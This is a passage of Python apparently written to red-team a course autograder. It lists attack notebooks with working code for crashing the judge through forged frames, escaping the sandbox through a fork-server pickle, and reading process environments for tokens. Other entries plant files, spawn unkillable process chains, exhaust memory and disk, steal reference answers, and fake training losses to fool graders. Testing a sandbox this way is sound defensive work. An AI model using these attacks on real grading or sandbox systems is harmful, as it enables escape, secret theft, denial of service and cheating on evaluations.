    heard, tell = os.pipe() if mode == 'handoff' else (None, None)
    try:
        pid = os.fork()
    except OSError:
        for fd in (heard, tell):
            if fd is not None:
                os.close(fd)
        time.sleep(0.001)
        continue
    forks += 1
    if pid == 0:                                   # the successor
        os.setsid()
        if heard is not None:
            os.close(heard)
            if told is not None:
                os.close(told)                     # (my parent's way to its own parent)
        told = tell
        continue
    if heard is not None:                          # handoff: tell my parent that I have forked; tell it when my
        os.close(tell)                             # successor has; leave when my successor's successor has
        for heard_so_far in range(3):
            if told is not None and heard_so_far < 2:
                try:
                    os.write(told, b'f')
                except OSError:                    # (a parent killed already)
                    pass
            if heard_so_far == 2:
                break
            try:
                if not os.read(heard, 1):
                    break                          # (the successor is gone)
            except OSError:
                break
    os._exit(0)
os._exit(0)
"""
CHAIN = """
import os, sys, time
if os.fork() == 0:
    try:
        os.setsid()
        _null = os.open(os.devnull, os.O_RDWR)
        for _fd in (0, 1, 2):
            os.dup2(_null, _fd)
        os.closerange(3, 4096)                            # nothing of the worker's: its socket, its pipes
        os.execv(sys.executable, [sys.executable, '-S', '-c', CHAIN_PROGRAM, MODE, str(time.time() + 60),
                                  '@ATTACK_ROOT@/survivor'])
    finally:
        os._exit(0)
"""
# chmod, chown, utime and setxattr: none is a right Landlock handles. Each is tried on files of the course
# copy, of the class and of the results that lie outside the worker's folder, by name (Landlock lets a
# worker list none of those folders, nor does it need to), changed so that a test sees it; and, changing
# nothing, on @ATTACK_ROOT@ itself and on the worker's folder's parent.
UNMEDIATED = '''
import os
_found, _mine = [], os.path.realpath('.')
_named = ['course/course.toml', 'course/autograder/judge.py', 'course/autograder/graders/02-char-rnn/test_train.py',
          'course/source/02-char-rnn/char-rnn.ipynb', 'course/release/02-char-rnn/char-rnn.ipynb',
          'submitted/honest-0/02-char-rnn/char-rnn.ipynb', 'submitted/honest-1/02-char-rnn/char-rnn.ipynb',
          'graded/gradebook.csv', 'graded/results.key', 'graded/honest-0/02-char-rnn/results.json']
def _try(what, path, call):
    try:
        call()
        _found.append(what + ' ' + path)
    except (OSError, ValueError):
        pass
for _path in [os.path.join('@ATTACK_ROOT@', _p) for _p in _named]:
    if not os.path.isfile(_path) or os.path.realpath(_path).startswith(_mine + '/'):
        continue
    _st = os.stat(_path)
    _try('chmod', _path, lambda: os.chmod(_path, _st.st_mode | 0o022))
    _try('chown', _path, lambda: os.chown(_path, os.getuid(), os.getgid()))
    _try('utime', _path, lambda: os.utime(_path, (0, 0)))
    _try('setxattr', _path, lambda: os.setxattr(_path, 'user.attack', b'planted'))
for _path in ('@ATTACK_ROOT@', os.path.dirname(_mine)):          # folders: try, changing nothing
    try:
        _st = os.stat(_path)
    except OSError:
        continue
    _try('chmod', _path, lambda: os.chmod(_path, _st.st_mode & 0o7777))
    _try('chown', _path, lambda: os.chown(_path, _st.st_uid, _st.st_gid))
    _try('utime', _path, lambda: os.utime(_path, ns=(_st.st_atime_ns, _st.st_mtime_ns)))
    _try('setxattr', _path, lambda: (os.setxattr(_path, 'user.attack', b'x'), os.removexattr(_path, 'user.attack')))
print(_found)
'''
# every other process's command line and environment, for what grading is and what it knows
PROC_SECRETS = '''
import os
_found = []
try:
    _pids = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
except OSError:
    _pids = []
for _pid in _pids:
    for _what in ('cmdline', 'environ'):
        try:
            with open('/proc/%s/%s' % (_pid, _what), 'rb') as _file:
                _data = _file.read()
        except OSError:
            continue
        for _secret in (b'--out', b'SECRET_TOKEN', b'hunter2', b'autograder.cli'):
            if _secret in _data:
                _found.append('%s/%s: %s' % (_pid, _what, _secret.decode()))
print(_found[:10])
'''
# a shared anonymous mapping of 3 GiB, every page written, a GiB in each of three cells (RLIMIT_DATA counts
# private mappings only); a fourth cell measures what is resident and lets the mapping go
SHARED_BOMB = '''
import ctypes, mmap
_GIB = 2 ** 30
try:
    _map = mmap.mmap(-1, 3 * _GIB)                # MAP_SHARED | MAP_ANONYMOUS
except (OSError, ValueError, MemoryError):
    _map = None
def _populate(start, length):
    """Write every page of [start, start + length): madvise(MADV_POPULATE_WRITE), else a byte a page."""
    if _map is None:
        return
    _view = (ctypes.c_char * length).from_buffer(_map, start)
    try:
        if ctypes.CDLL(None).madvise(ctypes.c_void_p(ctypes.addressof(_view)), ctypes.c_size_t(length), 23) != 0:
            for _at in range(start, start + length, 4096):
                _map[_at] = 1
    finally:
        del _view
'''
TOUCH_GIB = "_populate(_GIB * {}, _GIB)\n"
SHARED_BOMB_COUNT = '''
_found = []
try:
    _status = dict(_l.split(':', 1) for _l in open('/proc/self/status') if ':' in _l)
    _rss = int(_status['VmRSS'].split()[0]) * 1024
    if _rss > 2.25 * 2 ** 30:                     # more than the 2 GiB the worker is given, all at once
        _found.append('resident %.2f GiB' % (_rss / 2 ** 30))
except (OSError, ValueError, KeyError):
    pass
try:
    _map.close()
except (AttributeError, BufferError, OSError):
    pass
print(_found)
'''
# a file flood in the worker's own folder: files of 64 MiB (RLIMIT_FSIZE) up to 1 GiB a cell, then 20,000
# small files, each cell stopping after 3 s; the last cell counts what is there
FILE_FLOOD_BIG = '''
import os, time
os.makedirs('flood', exist_ok=True)
_until, _big = time.monotonic() + 3, 64 * 2 ** 20
_have = sum(os.stat(os.path.join('flood', f)).st_blocks * 512 for f in os.listdir('flood'))
_goal = min(2 * 2 ** 30, _have + 2 ** 30)
while _have < _goal and time.monotonic() < _until:
    _name = os.path.join('flood', 'big-%d' % (_have // _big))
    try:
        _fd = os.open(_name, os.O_WRONLY | os.O_CREAT, 0o600)
        try:
            os.posix_fallocate(_fd, 0, _big)       # the blocks, without writing them (as fast as it gets)
        finally:
            os.close(_fd)
    except OSError:
        break
    _have += _big
'''
FILE_FLOOD_SMALL = '''
import os, time
_until = time.monotonic() + 3
os.makedirs('flood/small', exist_ok=True)
for _i in range(20000):
    if time.monotonic() > _until:
        break
    try:
        with open('flood/small/%d' % _i, 'w') as _out:
            _out.write('x')
    except OSError:
        break
'''
FILE_FLOOD_COUNT = '''
import os
_bytes = sum(os.stat(os.path.join('flood', f)).st_blocks * 512 for f in os.listdir('flood') if f.startswith('big-'))
_files = len(os.listdir('flood/small')) if os.path.isdir('flood/small') else 0
_found = ['%.2f GiB, %d files' % (_bytes / 2 ** 30, _files)] if _bytes >= 2 * 2 ** 30 and _files >= 20000 else []
print(_bytes, _files, _found)
'''

ATTACKS += [
    # ------------------------------------------------------------------ 1. frames the judge does not survive
    # While the notebook runs, a forged `cell` event: the judge's reader raises something other than the
    # ProtocolError it handles (AttributeError, ValueError, RecursionError), which escapes judge.grade: the
    # whole `course grade` ends in a traceback and writes no gradebook. A robust judge kills the worker, skips
    # the cell on a fresh one, and grades the rest: the solution's grade.
    Attack("frame-cell-error-list", "a forged cell event whose error is a list, not a dict (the judge's "
           "_clean_error calls .get on it: AttributeError)",
           [("+", None, FRAME + "_frame({'event': 'cell', 'index': 0, 'status': 'error', 'error': ['not', 'a', 'dict']})")]),
    Attack("frame-cell-error-int", "a forged cell event whose error is an int (AttributeError in _clean_error, as "
           "for a list)",
           [("+", None, FRAME + "_frame({'event': 'cell', 'index': 0, 'status': 'error', 'error': 7})")]),
    Attack("frame-cell-huge-int", "a forged cell event whose index is a JSON integer of 5000 digits (json.loads "
           "raises ValueError, which the frame parser does not catch)",
           [("+", None, FRAME + "_frame(b'{\"event\": \"cell\", \"index\": ' + " + HUGE_INT + " + b', \"status\": \"ok\"}')")]),
    Attack("frame-cell-deep-nesting", "a forged cell event holding lists nested 100000 deep (RecursionError in "
           "json.loads)",
           [("+", None, FRAME + "_frame(b'{\"event\": \"cell\", \"index\": 0, \"stdout\": ' + " + DEEP + " + b'}')")]),
    Attack("frame-cell-index-not-int", "a forged cell event whose index is a string (the judge checks this one: it "
           "kills the worker and skips the cell)",
           [("+", None, FRAME + "_frame({'event': 'cell', 'index': '0', 'status': 'ok'})")]),
    Attack("frame-cell-huge-strings", "a forged cell event with 100 MB of stdout and stderr and an error of huge "
           "strings (the judge cuts them)",
           [("+", None, FRAME + "_big = 'x' * 50_000_000\n_frame({'event': 'cell', 'index': 0, 'status': 'error', "
                                "'stdout': _big, 'stderr': _big, 'error': {'type': _big, 'message': _big, "
                                "'traceback': _big, 'timeout': False}})\ndel _big")]),
    Attack("frame-huge-length", "a frame that claims 2**62 bytes, then a frame that claims 500 MB and never "
           "comes (the judge refuses the first and waits for the second until the cell's limit: each cell skipped)",
           [("+", None, FRAME + "_frame({'event': 'cell', 'index': 0, 'status': 'ok'}, total=2 ** 62)"),
            ("+", None, FRAME + "_frame({'event': 'cell', 'index': 0, 'status': 'ok'}, total=500 * 2 ** 20)\n"
                                "import time\ntime.sleep(30)")]),
    Attack("frame-random-bytes", "random bytes on the judge's socket: a random frame of 4096 bytes (well framed), "
           "then 64 KiB of noise (the judge refuses them as a malformed frame: the cell is skipped)",
           [("+", None, FRAME + "import random, struct\n_noise = random.Random(2024).randbytes(4096)\n"
                                "_judge_socket().sendall(struct.pack('>Q', len(_noise)) + _noise)\n"
                                "_judge_socket().sendall(random.Random(2025).randbytes(65536))")]),
    # During a grader's call, a forged reply: the same exceptions escape Submission.request into the grader
    # (a grader error, not the student's), the worker is not killed, and the real reply is read as the answer
    # to the next request: every later reply is one behind.
    reply_attack("frame-reply-huge-int", "GetDummies, called by a grader, replies with a JSON integer of 5000 "
                 "digits (ValueError out of the reader; the replies go out of step)",
                 "getdummies", "    features = np.zeros(", "b'{\"ok\": true, \"value\": ' + " + HUGE_INT + " + b'}'"),
    reply_attack("frame-reply-deep-nesting", "predict, called by a grader, replies with lists nested 100000 deep "
                 "(RecursionError out of the reader)",
                 "predict", "    character = np.array(", "b'{\"ok\": true, \"value\": ' + " + DEEP + " + b'}'"),
    reply_attack("frame-reply-bad-value", "sample, called by a grader, replies ok with a value the decoder "
                 "refuses (ProtocolError out of Submission.request, not WorkerLost)",
                 "sample", "    model.eval()\n", "{'ok': True, 'value': {'t': 'int', 'v': '9' * 5000}}"),
    reply_attack("frame-reply-error-not-dict", "train, called by a grader, replies with an error that is a list "
                 "(the judge checks this one: WorkerLost, the call fails as the twin's)",
                 "train", "    net = net.to(device)\n", "{'ok': False, 'error': ['not', 'a', 'dict']}"),
    # ------------------------------------------------------------------ 2. System V IPC, shared between submissions
    # No IPC namespace and nothing in Landlock or seccomp keeps a worker from SysV IPC: a segment or a queue
    # made by one submission outlives it (nothing removes it) and is there for the next. The stashers keep the
    # solution's grade; the fetchers, blank notebooks, answer every blank with the stash.
    Attack("ipc-shm-1-stash", "a full solution that stores the text of its answer cells in SysV shared memory "
           "(key 0x5eed), left there after grading",
           [("+", None, STASH.replace("_PUT", "_shm_put"))]),
    Attack("ipc-shm-2-fetch", "a blank notebook whose blanks fetch the stash from SysV shared memory (key 0x5eed, "
           "waiting up to 2.5 s for a stasher graded beside it) and run it",
           [("+", None, FETCH.replace("_GET", "_shm_get"))], base="blank"),
    Attack("ipc-msg-1-stash", "a full solution that stores the text of its answer cells in a SysV message queue "
           "(key 0x5eee), left there after grading",
           [("+", None, STASH.replace("_PUT", "_msg_put").replace("0x5eed", "0x5eee"))]),
    Attack("ipc-msg-2-fetch", "a blank notebook whose blanks fetch the stash from a SysV message queue (key "
           "0x5eee) and run it",
           [("+", None, FETCH.replace("_GET", "_msg_get").replace("0x5eed", "0x5eee"))], base="blank"),
    # ------------------------------------------------------------------ 3. the judge's reference code, in the worker
    # To grade blank B with the references of the blanks it calls, the judge defines them in the worker, and
    # the worker keeps them (Worker.compiled, the handles of nb.define's objects, the scopes they live in).
    # A blank notebook whose blanks, when called, answer with those references earns their points.
    Attack("steal-references-gc", "a blank notebook whose GetDummies, Model, train, predict and sample_next call "
           "the judge's reference found by gc.get_objects() (functions and classes whose code is "
           "'<reference ...>', or the compiled code in any dict)",
           [("+", None, STEAL_FROM_GC + STOLEN_BLANKS)], base="blank"),
    Attack("steal-references-worker", "a blank notebook whose blanks run the source of the judge's reference, "
           "read from the Worker object's cache of compiled references (found by gc)",
           [("+", None, STEAL_FROM_WORKER + STOLEN_BLANKS)], base="blank"),
    # ------------------------------------------------------------------ 4. graders that believe the student
    Attack("recite-the-poem", "a blank notebook whose sample ignores the model and recites the phrase of Text "
           "that starts with `start` (the trained model's graders only check the text)",
           [("+", None, "def sample(model, out_len, start='對'):\n"
                        "    text = next((p for p in Text if p.startswith(start)), start)\n"
                        "    while len(text) < out_len:\n"
                        "        text += ''.join(Text)[len(text) % 32]\n"
                        "    return text[:max(out_len, len(start))]\n")], base="blank"),
    Attack("fake-losses", "a blank notebook whose train returns made-up falling losses and trains nothing",
           [("+", None, "def train(net, Input, Target, n_epochs=100, lr=0.01, max_norm=None):\n"
                        "    return [3.3 * 0.97 ** epoch for epoch in range(n_epochs)]\n")], base="blank"),
    # ------------------------------------------------------------------ 5. the judges' fork server
    # With --jobs 2, the judges come from multiprocessing's fork server, which listens on a Unix socket under
    # /tmp/pymp-*/ and unpickles what its clients send: a worker that can reach it runs code in a judge-to-be,
    # as the grading user, outside every sandbox. Where connect() succeeds, the notebook loses points.
    Attack("forkserver-escape", "connects to the judges' fork server (its listener found in /proc/net/unix), "
           "hands it pipes over SCM_RIGHTS and a pickle that its forked child unpickles, as the grading user and "
           "outside every sandbox: it writes @ATTACK_ROOT@/forkserver-escaped",
           [("+", None, FORKSERVER + "if _found:" + LEAK)]),
    Attack("unix-socket-connect", "connects to every Unix socket path /proc/net/unix lists, and closes: the judges' "
           "fork server's listener among them, where the fork server dies of the EOF and the pool of judges breaks "
           "with it (BrokenProcessPool: `course grade` ends in a traceback)",
           [("+", None, UNIX_PATHS + "import socket\n_found = []\nfor _path in _unix_paths():\n"
                                     "    try:\n        with socket.socket(socket.AF_UNIX) as _s:\n"
                                     "            _s.settimeout(1)\n            _s.connect(_path)\n"
                                     "        _found.append(_path)\n    except OSError:\n        pass\n"
                                     "print(_found)\nif _found:" + LEAK)]),
    Attack("unix-socket-create", "creates Unix sockets (a stream socket and a socketpair): nothing a notebook "
           "needs, everything the two attacks above need",
           [("+", None, "import socket\n_found = []\ntry:\n    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close()\n"
                        "    _found.append('socket')\nexcept OSError:\n    pass\ntry:\n"
                        "    for _s in socket.socketpair():\n        _s.close()\n    _found.append('socketpair')\n"
                        "except OSError:\n    pass\nif _found:" + LEAK)]),
    # ------------------------------------------------------------------ 6. writes Landlock does not mediate
    Attack("unmediated-writes", "chmod, chown, utime and setxattr on the course copy's files, the class's "
           "notebooks and the results outside its folder, and (changing nothing) on @ATTACK_ROOT@ and its "
           "folder's parent",
           [("+", None, UNMEDIATED + "if _found:" + LEAK)]),
    # ------------------------------------------------------------------ 7. processes that outlive grading
    Attack("session-chain", "a chain of small processes, each in its own session, each forking its successor and "
           "ending at once, for 60 s; a file touched each second shows who is left",
           [("+", None, "CHAIN_PROGRAM = " + repr(CHAIN_PROGRAM) + "\nMODE = 'relay'\n" + CHAIN)]),
    Attack("session-chain-handoff", "a chain of small processes, each in its own session, each forking its successor "
           "and ending once that successor has forked its own, for 60 s: the orphan a kill loop finds always has a "
           "successor already",
           [("+", None, "CHAIN_PROGRAM = " + repr(CHAIN_PROGRAM) + "\nMODE = 'handoff'\n" + CHAIN)]),
    # ------------------------------------------------------------------ 8. secrets in other processes
    Attack("proc-cmdline-environ", "reads /proc/*/cmdline and /proc/*/environ of every other process, for the "
           "grading command (--out, autograder.cli) and the tokens in its environment",
           [("+", None, PROC_SECRETS + "if _found:" + LEAK)]),
    # ------------------------------------------------------------------ 9. resources
    Attack("shared-memory-bomb", "a 3 GiB MAP_SHARED anonymous mapping, every page written, a GiB in each of "
           "three cells (RLIMIT_DATA does not count shared mappings); where it is all resident at once, the notebook "
           "loses points",
           [("+", None, SHARED_BOMB + TOUCH_GIB.format(0)), ("+", None, TOUCH_GIB.format(1)),
            ("+", None, TOUCH_GIB.format(2)), ("+", None, SHARED_BOMB_COUNT + "if _found:" + LEAK)]),
    Attack("figure-flood", "forges a cell event carrying four 'PNG' buffers of 100 MB each: the judge puts them "
           "in executed.ipynb (base64, over 500 MB)",
           [("+", None, FRAME + "_png = b'\\x89PNG\\r\\n\\x1a\\n' + bytes(100 * 2 ** 20)\n"
                                "_frame({'event': 'cell', 'index': 0, 'status': 'ok', 'stdout': '', 'stderr': '', "
                                "'error': None, 'figures': 4}, [_png] * 4)\ndel _png")]),
    Attack("output-flood-cells", "400 cells that each print 20,000 characters to stdout and to stderr (what the "
           "worker keeps of each cell goes into executed.ipynb)",
           [("+", None, "import sys\nprint('x' * 20000)\nprint('y' * 20000, file=sys.stderr)")] * 400),
    Attack("file-flood", "2 GiB (files of 64 MiB) and 20,000 small files in its own folder, each cell stopping "
           "after 3 s; where all of it fits, the notebook loses points",
           [("+", None, FILE_FLOOD_BIG), ("+", None, FILE_FLOOD_BIG), ("+", None, FILE_FLOOD_SMALL),
            ("+", None, FILE_FLOOD_COUNT + "if _found:" + LEAK)]),
]
